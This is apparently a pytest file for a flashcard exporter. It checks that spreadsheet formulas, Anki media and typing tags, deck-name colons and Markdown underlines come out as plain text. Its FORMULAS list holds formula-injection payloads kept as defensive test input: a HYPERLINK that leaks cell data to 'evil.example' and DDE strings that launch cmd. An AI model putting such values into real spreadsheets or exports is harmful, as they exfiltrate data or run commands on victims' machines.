"""Text that other tools would run: formulas in a spreadsheet, players and subdecks in
Anki, headings in Markdown. Each export shows it as the card's text, checked with the
real Anki backend and a CommonMark renderer.
"""

from __future__ import annotations

import csv
import html
import io
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from exporters import anki, csv_export
from exporters.base import ExportOptions
from exporters.csv_export import FORMULA_STARTS, HEADER, render_csv
from exporters.markdown import render_markdown
from flashcards.model import Card, ChapterInfo, Deck, Kind, Source
from tests.export_samples import anki_collection, import_csv, import_package

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTab first",
]


def deck(*cards: Card, title: str = "Quirks") -> Deck:
    return Deck(f"07 {title}", ChapterInfo(7, "quirks", title), cards)


def card(index: int, front: str, back: str, *, tags: tuple[str, ...] = ("ch07",)) -> Card:
    return Card(
        id=f"quirks-{index}",
        kind=Kind.INTERVIEW,
        front=front,
        back=back,
        tags=tags,
        source=Source("07-quirks.md", "Section"),
    )


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.split("\r\n", len(HEADER))[-1])))


def formula_deck() -> Deck:
    cards = [card(i, formula, f"{formula} back") for i, formula in enumerate(FORMULAS)]
    cards.append(card(99, "Plain front", "Plain back", tags=("=HYPERLINK(1)", "-x")))
    return deck(*cards)


def test_no_csv_cell_starts_a_formula() -> None:
    text, _, _ = render_csv([formula_deck()], "=Root")
    for row in cells(text):
        for column, cell in zip(csv_export.COLUMNS, row, strict=True):
            if column != "GUID":  # a hash of the card id, not text anyone chose
                assert not cell.startswith(FORMULA_STARTS), (column, cell)


def test_anki_imports_the_neutralised_csv_as_the_same_text(tmp_path: Path) -> None:
    """The real Anki text importer: fields render the formula text, tags and deck unchanged."""
    out = tmp_path / "cards.csv"
    csv_export.export([formula_deck()], out, ExportOptions(root="=Root"))
    with anki_collection(tmp_path / "collection.anki2") as col:
        import_csv(col, out)
        notes = [col.get_note(nid) for nid in col.find_notes("")]
        fronts = {html.unescape(note["Front"]): note for note in notes}
        for formula in FORMULAS:
            note = fronts[formula.strip("\n")]
            assert html.unescape(note["Back"]).startswith(f"{formula} back")
            # one deck for every row, named as given but for an invisible word joiner
            assert col.decks.name(note.cards()[0].did) == "\u2060=Root::07 Quirks"
        assert {"-x", "=HYPERLINK(1)"} <= set(fronts["Plain front"].tags)


BACKS_WITH_TAGS = "Run [sound:x.mp3] then [anki:tts lang=en_US]hi[/anki:tts] and [[type:Back]]"


def test_sound_tts_and_type_tags_are_text_in_anki(tmp_path: Path) -> None:
    """Neither the .apkg nor the CSV gives Anki a player, a voice or a typing box."""
    quirky = deck(card(1, "What plays? [SOUND:y.mp3]", BACKS_WITH_TAGS))
    package, sheet = tmp_path / "q.apkg", tmp_path / "q.csv"
    anki.export([quirky], package, ExportOptions(now=1_800_000_000))
    csv_export.export([quirky], sheet, ExportOptions())
    for source in (package, sheet):
        with anki_collection(tmp_path / f"{source.suffix}.anki2") as col:
            (import_package if source is package else import_csv)(col, source)
            for nid in col.find_notes(""):
                note = col.get_note(nid)
                for each in note.cards():
                    assert each.question_av_tags() == [] and each.answer_av_tags() == []
                    shown = html.unescape(each.answer())
                    assert "[sound:x.mp3]" in shown and "[[type:Back]]" in shown
                for field in note.fields:
                    assert col.media.files_in_str(note.mid, field) == []


def test_colons_in_a_deck_title_make_no_subdeck(tmp_path: Path) -> None:
    titled = deck(card(1, "Q?", "A."), title="C++::Namespaces :: and ::: more")
    out = tmp_path / "d.apkg"
    anki.export([titled], out, ExportOptions(now=1_800_000_000))
    with anki_collection(tmp_path / "c.anki2") as col:
        import_package(col, out)
        names = {entry.name for entry in col.decks.all_names_and_ids()}
    ours = {name for name in names if name.startswith("K8s Interview Prep")}
    assert len(ours) == 2, ours  # the root and the chapter's deck, nothing split off
    (chapter,) = ours - {"K8s Interview Prep"}
    assert chapter.replace("\u2060", "") == "K8s Interview Prep::07 C++::Namespaces :: and ::: more"


@pytest.mark.parametrize("underline", ["===", "---", "  ----  ", "=", "-", "==\n--"])
def test_markdown_lines_of_equals_or_dashes_make_no_heading(underline: str) -> None:
    cards = [
        card(1, f"Front\n{underline}", f"First line\n{underline}\nlast line"),
        card(2, "Front two", f"Answer\n{underline}"),  # the back's last line
        card(3, "Front three", underline),
    ]
    sheet = render_markdown([deck(*cards)])
    tokens = MarkdownIt("commonmark").parse(sheet)
    headings = [t.map for t in tokens if t.type == "heading_open"]
    assert len(headings) == 1 + 1  # the chapter's title and its one kind section
    assert not any(t.type == "hr" for t in tokens)
    rendered = MarkdownIt("commonmark").render(sheet)
    for line in underline.split("\n"):
        assert line.strip() in rendered
